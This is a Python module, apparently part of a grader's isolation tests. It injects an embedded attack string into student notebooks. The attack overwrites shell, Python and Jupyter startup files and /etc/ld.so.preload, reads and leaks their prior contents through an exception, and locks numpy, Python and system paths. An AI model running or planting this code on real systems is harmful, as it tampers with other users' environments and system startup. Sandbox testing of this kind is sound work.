"""Leave files, locks, keys and settings for whoever is graded next, or beside."""

from assignments.hostile import first, replaced

ATTACK = """
import fcntl
import glob
import os
import sys

import numpy

CODE = "open('/var/tmp/initlib-hostile', 'w')"
NAMES = [
    "~/.pythonrc", "~/.profile", "~/.ipython/profile_default/startup/00.py",
    "~/.config/matplotlib/matplotlibrc", "/tmp/matplotlib/matplotlibrc",
    "/tmp/matplotlib/fontlist-v390.json", "~/.jupyter/jupyter_config.py",
    "/dev/shm/initlib-hostile", "/tmp/initlib-hostile", "/run/initlib-hostile",
    "/var/lock/initlib-hostile", "/dev/mqueue/initlib-hostile", "/etc/ld.so.preload",
]

def attack(*arguments, **options):
    heard = []
    for name in map(os.path.expanduser, NAMES):
        try:
            heard.append(open(name).read(100))
        except OSError:
            pass
        try:
            os.makedirs(os.path.dirname(name), exist_ok=True)
            with open(name, "w") as file:
                file.write(CODE)
        except OSError:
            pass
    locked = glob.glob(os.path.dirname(numpy.__file__) + "/*.py")
    locked += ["/", "/usr/lib", sys.executable, *glob.glob("/tmp/matplotlib/*")]
    for path in locked:
        try:
            descriptor = os.open(path, os.O_RDONLY)
            fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
            fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_RDLCK)
            os.utime(path)
        except OSError:
            pass
    raise ValueError(str(heard))
"""


def spoil(notebook, honest):
    """Leave them before everything, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
